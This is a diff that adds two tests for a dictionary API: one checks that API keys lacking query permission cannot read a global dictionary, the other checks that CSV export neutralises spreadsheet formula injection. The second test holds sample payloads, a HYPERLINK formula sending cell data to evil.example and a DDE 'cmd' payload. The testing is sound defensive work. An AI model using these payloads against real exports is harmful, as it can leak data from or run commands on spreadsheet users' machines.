@@ -273,4 +273,36 @@ describe('who may read and change dictionaries', () => {
     expectError(await r.post(`/api/v1/dictionaries/${d.id}/rows`, { rows: [{ k: '2' }] }), 403, 'alert_manage');
     expectError(await r.get(`/api/v1/dictionaries?fractal_id=${beta.id}`), 404);
   });
+
+  test('a global dictionary is read by an API key only with its query permission', async () => {
+    const g = await newDict(admin, { name: 'global_for_keys', columns: ['k'], is_global: true });
+    expectOk(await admin.post(`/api/v1/dictionaries/${g.id}/rows`, { rows: [{ k: 'secret-ish' }] }));
+    const noQuery = await createApiKey(admin, `/api/v1/fractals/${alpha.id}`, { name: 'dict-no-query', permissions: { query: false, comment: true } });
+    const withQuery = await createApiKey(admin, `/api/v1/fractals/${alpha.id}`, { name: 'dict-with-query', permissions: { query: true } });
+    const n = credentialClient(app.url, noQuery.key);
+    for (const path of [`/api/v1/dictionaries/${g.id}`, `/api/v1/dictionaries/${g.id}/rows`, `/api/v1/dictionaries/${g.id}/export`]) {
+      expectError(await n.get(path), 403, 'query');
+    }
+    assert.equal((await rowsOf(credentialClient(app.url, withQuery.key), g.id)).total, 1);
+  });
+
+  test('an export never hands a spreadsheet a formula: cells starting with = + - @ are written as text', async () => {
+    const d = await newDict(admin, { name: 'formulas', columns: ['k', 'v'], fractal_id: alpha.id });
+    const rows = [
+      { k: '1', v: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
+      { k: '2', v: '+1+cmd|/C calc!A0' },
+      { k: '3', v: '-2+3' },
+      { k: '4', v: '@SUM(1)' },
+      { k: '5', v: 'plain = text' },
+    ];
+    expectOk(await admin.post(`/api/v1/dictionaries/${d.id}/rows`, { rows }));
+    const text = (await admin.get(`/api/v1/dictionaries/${d.id}/export`)).body as string;
+    assert.equal(
+      text,
+      'k,v\r\n1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\r\n2,\'+1+cmd|/C calc!A0\r\n3,\'-2+3\r\n4,\'@SUM(1)\r\n5,plain = text\r\n',
+    );
+    // What is stored is unchanged: only the file written for spreadsheets carries the quote.
+    const stored = (await rowsOf(admin, d.id)).rows.map((r) => `${r.k}:${r.v}`).sort();
+    assert.deepEqual(stored, rows.map((r) => `${r.k}:${r.v}`).sort());
+  });
 });
